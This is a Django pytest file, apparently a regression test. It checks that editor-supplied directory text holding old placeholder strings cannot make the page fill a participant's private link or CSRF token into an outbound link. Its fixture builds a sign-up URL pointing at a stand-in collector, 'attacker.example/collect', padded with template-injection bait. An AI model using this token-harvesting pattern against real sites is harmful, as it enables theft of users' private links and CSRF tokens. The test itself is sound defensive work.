"""Nothing a directory editor types can carry a participant's private link or CSRF token.

A probe put the page's old placeholder strings into an
offering's sign-up link and a program's tagline; the page then filled the visitor's
own tokens into them.
"""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from programs.models import Program
from tests.factories import OfferingFactory, ProviderFactory

pytestmark = pytest.mark.django_db

# Strings that earlier versions of the page replaced after rendering.
BAIT = (
    "recommendation-token-placeholder",
    "csrf-token-placeholder",
    "first-reasons-placeholder",
    "where-to-take-it-placeholder",
    "{{ csrf_token }}",
    "{% csrf_token %}",
)
CSRF_INPUT = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')


@pytest.fixture
def baited_directory():
    """An editor's offering and program text stuffed with every string worth a try."""
    bait = "-".join(BAIT)
    provider = ProviderFactory(name="Harvest Co", programs=["MBSR"], region="northeast")
    OfferingFactory(
        provider=provider,
        program=Program.objects.get(code="MBSR"),
        registration_url=f"https://attacker.example/collect?{bait}",
        location=bait,
    )
    Program.objects.filter(code="MBSR").update(tagline=bait)


def test_a_participants_tokens_appear_only_where_the_page_puts_them(
    client, make_intake, baited_directory
):
    intake = make_intake()  # MBSR first, in the northeast
    page = client.get(intake.get_absolute_url()).content.decode()
    csrf = CSRF_INPUT.search(page).group(1)

    assert "attacker.example" in page  # the editor's link is shown, as typed
    sign_up = re.search(r'href="(https://attacker\.example[^"]*)"', page).group(1)
    assert intake.public_token not in sign_up
    assert csrf not in sign_up
    # The private link appears three times: in the delete form's address, in the "I signed
    # up" form's, and in the language switch's way to this same page in the other language
    # (our own addresses, not a link out).
    assert page.count(intake.public_token) == 3
    assert f'action="{reverse("advisor:signed_up", args=[intake.public_token])}"' in page
    assert f'action="{reverse("advisor:delete", args=[intake.public_token])}"' in page
    switch = re.search(r'<a class="language-switch" href="(/language/es/[^"]*)"', page)
    assert intake.public_token in switch.group(1)


def test_a_second_visitor_gets_none_of_the_first_ones_tokens(client, make_intake, baited_directory):
    first, second = make_intake(), make_intake()
    first_page = client.get(first.get_absolute_url()).content.decode()
    first_csrf = CSRF_INPUT.search(first_page).group(1)

    from tests.clients import FormClient

    other = FormClient()
    second_page = other.get(second.get_absolute_url()).content.decode()

    assert first.public_token not in second_page
    assert first_csrf not in second_page
